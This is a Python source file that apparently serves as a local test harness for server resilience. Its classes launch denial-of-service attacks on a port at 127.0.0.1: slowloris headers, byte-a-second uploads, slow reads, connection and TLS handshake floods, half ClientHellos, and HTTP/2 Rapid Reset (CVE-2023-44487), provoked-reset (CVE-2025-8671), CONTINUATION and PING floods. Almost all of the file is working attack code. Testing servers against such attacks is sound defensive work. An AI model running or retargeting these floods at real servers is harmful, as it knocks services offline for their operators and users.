"""Who attacks: a process of its own with one loop, KIND PORT CONNECTIONS. Prints "ready" when all are connected (a
flood: when it has begun), and goes on until it is ended."""

import contextlib
import itertools
import os
import resource
import select
import socket
import ssl
import struct
import sys
import time

import wire

RESET = struct.pack("ii", 1, 0)
AT_A_TIME = 200  # connections opened before others have their turn


def begin():
    """From here on good clients have the right of way on the processor."""
    print("ready", flush=True)
    os.sched_setscheduler(0, os.SCHED_OTHER, os.sched_param(0))  # in case that we were started with more
    os.nice(19)


class Attack:
    """Opens connections, and opens those again that are closed; `begin` is sent at once, `drip` every second."""
    begin = drip = b""
    reads_bytes = 65536  # of what comes, as it comes
    receive_buffer = None

    def __init__(self, port, count):
        self.port, self.count = port, count
        self.epoll, self.open = select.epoll(), {}

    def connect(self):
        s = socket.socket()
        if self.receive_buffer:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, self.receive_buffer)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RESET)
        s.settimeout(1)
        try:
            s.connect(("127.0.0.1", self.port))
            s = self.connected(s)
            s.setblocking(False)
            s.send(self.begin) if self.begin else None
        except OSError:
            s.close()
            return
        self.open[s.fileno()] = s
        if self.reads_bytes:
            self.epoll.register(s, select.EPOLLIN)

    def connected(self, s):
        """What is to be kept in its place."""
        return s

    def close(self, fd):
        with contextlib.suppress(OSError):
            self.epoll.unregister(fd)
        self.open.pop(fd).close()

    def each_second(self):
        for fd, s in list(self.open.items()):
            try:
                if self.drip:
                    s.send(self.drip)
            except BlockingIOError:
                pass
            except OSError:
                self.close(fd)

    def came(self, fd):
        try:
            if not self.open[fd].recv(self.reads_bytes):
                self.close(fd)
        except (BlockingIOError, ssl.SSLWantReadError):
            pass
        except OSError:
            self.close(fd)

    def run(self):
        told, next_second = False, time.monotonic() + 1
        while True:
            for _ in range(min(AT_A_TIME, self.count - len(self.open))):
                self.connect()
            if len(self.open) >= self.count and not told:
                begin()
                told = True
            patience_s = min(0.2, next_second - time.monotonic()) if told else 0
            for fd, _ in self.epoll.poll(max(0, patience_s)):
                if fd in self.open:
                    self.came(fd)
            if time.monotonic() >= next_second:
                next_second += 1
                self.each_second()


class Heads(Attack):
    """Heads that never end (slowloris)."""
    begin, drip = b"GET / HTTP/1.1\r\nHost: a\r\n", b"X-a: b\r\n"


class Bodies(Attack):
    """Uploads, a byte a second."""
    begin, drip = b"POST /0 HTTP/1.1\r\nHost: a\r\nContent-Length: 1000000\r\n\r\n", b"x"


class Readers(Attack):
    """Large responses, read at 100 bytes a second."""
    begin, receive_buffer, reads_bytes = b"GET /100m HTTP/1.1\r\nHost: a\r\n\r\n", 4096, 0

    def each_second(self):
        for fd, s in list(self.open.items()):
            try:
                if not s.recv(100):
                    self.close(fd)
            except BlockingIOError:
                pass
            except OSError:
                self.close(fd)


class Silent(Attack):
    """Connections on which nothing is ever said."""


class Idle(Attack):
    """Kept connections, after one request each."""
    begin = b"GET /0 HTTP/1.1\r\nHost: a\r\n\r\n"


class Flood(Attack):
    """As many new connections as one process can make, each reset at once."""

    def run(self):
        begin()
        while True:
            s = socket.socket()
            s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RESET)
            with contextlib.suppress(OSError):
                s.connect(("127.0.0.1", self.port))
            s.close()


class TlsIdle(Attack):
    """Kept connections with TLS, after one request each. What they cost here is given back."""
    context = wire.tls_context()

    def connected(self, s):
        s.settimeout(5)
        tls = self.context.wrap_socket(s, server_hostname="a")
        tls.sendall(Idle.begin)
        tls.recv(4096)
        return socket.socket(fileno=tls.detach())


class TlsStalled(Attack):
    """Half a ClientHello, and no more."""

    def __init__(self, *how):
        super().__init__(*how)
        hello = wire.client_hello()
        self.begin = hello[:len(hello) // 2]


class TlsHandshakes(Attack):
    """Handshakes that are given up once the server has signed, and begun anew, as many as one process can. They all
    begin with the same bytes, and so cost who attacks nothing."""

    def __init__(self, *how):
        super().__init__(*how)
        self.begin = wire.client_hello()

    def came(self, fd):
        self.close(fd)


class H2Readers(Attack):
    """Large responses on many streams, none of which may send a byte of it."""
    context = wire.tls_context("h2")
    streams, reads_bytes = 20, 0

    def connected(self, s):
        s.settimeout(5)
        tls = self.context.wrap_socket(s, server_hostname="a")
        tls.sendall(wire.hello(0) + b"".join(wire.request(b"/100m", 2 * i + 1) for i in range(self.streams)))
        return tls


class H2Flood(Attack):
    """Frames, as fast as they are taken; who is sent away comes again."""
    context = wire.tls_context("h2")
    reads_bytes = 65536
    at_once = 200  # frames, or pairs of them

    def __init__(self, *how):
        super().__init__(*how)
        self.pending = {}  # by file: bytes to be sent, and the frames behind them

    def frames(self):
        """For ever."""
        raise NotImplementedError

    def connected(self, s):
        tls = self.context.wrap_socket(s, server_hostname="a")
        tls.sendall(wire.hello())
        return tls

    def connect(self):
        super().connect()
        for fd in self.open.keys() - self.pending.keys():
            self.pending[fd] = (b"", self.frames())

    def close(self, fd):
        self.pending.pop(fd, None)
        super().close(fd)

    def send(self, fd):
        """False: it takes no more now."""
        rest, frames = self.pending[fd]
        try:
            rest = rest or b"".join(itertools.islice(frames, self.at_once))
            self.pending[fd] = (rest, frames)
            self.pending[fd] = (rest[self.open[fd].send(rest):], frames)
            return True
        except (BlockingIOError, ssl.SSLWantWriteError, ssl.SSLWantReadError):
            return False
        except OSError:
            self.close(fd)
            return True

    def run(self):
        begin()
        while True:
            for _ in range(self.count - len(self.open)):
                self.connect()
            busy = [self.send(fd) for fd in list(self.open)]
            for fd, _ in self.epoll.poll(0 if any(busy) else 0.01):
                self.came(fd) if fd in self.open else None


class H2Resets(H2Flood):
    """Requests that are taken back at once (CVE-2023-44487)."""
    second = staticmethod(lambda i: wire.frame(wire.RST_STREAM, 0, i, struct.pack(">I", wire.CANCEL)))

    def frames(self):
        return (wire.request(b"/0", i) + self.second(i) for i in range(1, 1 << 31, 2))


class H2Provoked(H2Resets):
    """Requests that the server is brought to take back itself (CVE-2025-8671)."""
    second = staticmethod(lambda i: wire.frame(wire.WINDOW_UPDATE, 0, i, b"\x7f\xff\xff\xff"))


class H2Continuations(H2Flood):
    """A head that never ends."""

    def frames(self):
        field = b"\0\x01a\x64" + b"x" * 100
        yield wire.frame(wire.HEADERS, wire.END_STREAM, 1, wire.head(b"/0"))
        yield from itertools.repeat(wire.frame(wire.CONTINUATION, 0, 1, field))


class H2Pings(H2Flood):
    """What has to be answered, and the answers are not read."""
    reads_bytes = 0

    def frames(self):
        return itertools.cycle((wire.frame(wire.PING, 0, 0, b"12345678"), wire.frame(wire.SETTINGS, 0, 0)))


KINDS = {"heads": Heads, "bodies": Bodies, "readers": Readers, "silent": Silent, "idle": Idle, "flood": Flood,
         "tls-idle": TlsIdle, "tls-stalled": TlsStalled, "tls-handshakes": TlsHandshakes, "h2-readers": H2Readers,
         "h2-resets": H2Resets, "h2-provoked": H2Provoked, "h2-continuations": H2Continuations, "h2-pings": H2Pings}

if __name__ == "__main__":
    hard_limit = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard_limit, hard_limit))
    KINDS[sys.argv[1]](int(sys.argv[2]), int(sys.argv[3])).run()
